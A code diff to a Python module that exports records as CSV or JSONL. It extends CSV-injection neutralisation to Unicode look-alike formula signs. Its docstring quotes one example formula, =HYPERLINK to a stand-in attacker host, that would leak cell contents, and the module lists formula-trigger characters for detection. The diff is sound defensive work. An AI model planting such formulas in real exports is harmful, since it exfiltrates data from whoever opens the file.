@@ -17,8 +17,10 @@ Two formats:
   otherwise run it as a formula (OWASP, "CSV Injection",
   https://owasp.org/www-community/attacks/CSV_Injection). So is a cell whose first
   character that is not blank (space, tab, CR, LF, U+FEFF, U+00A0, U+3000) is one of
-  those or its fullwidth form (``＝＋－＠``): spreadsheets strip leading blanks and a
-  byte-order mark, and some read fullwidth signs as the ASCII ones. Content, errors and user ids
+  those or a look-alike that Unicode compatibility folding turns into one (fullwidth
+  ``＝＋－＠``, small ``﹦﹢﹣﹫``, superscript and subscript ``⁼⁺₌₊``, and U+FB29):
+  spreadsheets strip leading blanks and a byte-order mark, and some read such signs as
+  the ASCII ones. Content, errors and user ids
   come from senders and providers, not from the officer, so any of them could be
   ``=HYPERLINK("https://evil.example/?"&A1)``.
 - **JSONL**: one JSON object per line, LF-terminated, the shape of one item of the API's
@@ -48,13 +50,20 @@ from policies.records import LOG_FIELDS, SendRecord
 BYTE_ORDER_MARK = "\ufeff"
 FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
 """First characters that make a spreadsheet read a cell as a formula (OWASP)."""
-FULLWIDTH_TRIGGERS: tuple[str, ...] = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
-"""``＝＋－＠``: read as ``=+-@`` by spreadsheets that normalise fullwidth forms."""
+LOOKALIKE_TRIGGERS: tuple[str, ...] = (
+    *("\uff1d", "\uff0b", "\uff0d", "\uff20"),  # fullwidth ＝＋－＠
+    *("\ufe66", "\ufe62", "\ufe63", "\ufe6b"),  # small ﹦﹢﹣﹫
+    *("\u207c", "\u207a", "\u208c", "\u208a"),  # superscript and subscript ⁼⁺₌₊
+    "\ufb29",  # Hebrew alternative plus sign
+)
+"""Every character that Unicode compatibility folding (NFKC) turns into ``=``, ``+``,
+``-`` or ``@``: read as those by spreadsheets that fold them (``tests/policies/test_exports.py``
+derives the set from the Unicode database and compares)."""
 LEADING_BLANKS = " \t\r\n\ufeff\u00a0\u3000"
 """Skipped before looking for a trigger: spreadsheets trim them (and a byte-order mark)."""
-_TRIGGER_CHARACTERS = frozenset(("=", "+", "-", "@", *FULLWIDTH_TRIGGERS))
+_TRIGGER_CHARACTERS = frozenset(("=", "+", "-", "@", *LOOKALIKE_TRIGGERS))
 _MAY_TRIGGER = re.compile(
-    "[" + re.escape(LEADING_BLANKS + "".join(FORMULA_TRIGGERS) + "".join(FULLWIDTH_TRIGGERS)) + "]"
+    "[" + re.escape(LEADING_BLANKS + "".join(FORMULA_TRIGGERS) + "".join(LOOKALIKE_TRIGGERS)) + "]"
 )
 """A cell whose first character is none of these is never neutralised (one quick test
 before the exact rules below, for the common cell)."""
@@ -108,7 +117,7 @@ def neutralised(cell: str) -> str:
     """``cell`` as a spreadsheet may open it: with :data:`NEUTRALISER` in front when it
     begins with one of :data:`FORMULA_TRIGGERS` (OWASP CSV injection), or when its first
     character outside :data:`LEADING_BLANKS` is ``=+-@`` or one of
-    :data:`FULLWIDTH_TRIGGERS`; else unchanged."""
+    :data:`LOOKALIKE_TRIGGERS`; else unchanged."""
     if _MAY_TRIGGER.match(cell) is None:
         return cell
     if cell.startswith(FORMULA_TRIGGERS):
@@ -228,7 +237,7 @@ def jsonl_line(fields: dict[str, str | None]) -> bytes:
     return _escaped_line_breaks(msgspec.json.encode(fields)) + b"\n"
 
 
-_JsonlLine = msgspec.defstruct("_JsonlLine", [(name, str | None) for name in LOG_FIELDS])
+_JsonlLine = msgspec.defstruct("_JsonlLine", [(name, str | None) for name in LOG_FIELDS], gc=False)
 """One record's :data:`LOG_FIELDS` as a JSON object, in order (null kept); built from
 the values by position, which costs a third of building a dict."""
 _JSONL = msgspec.json.Encoder()
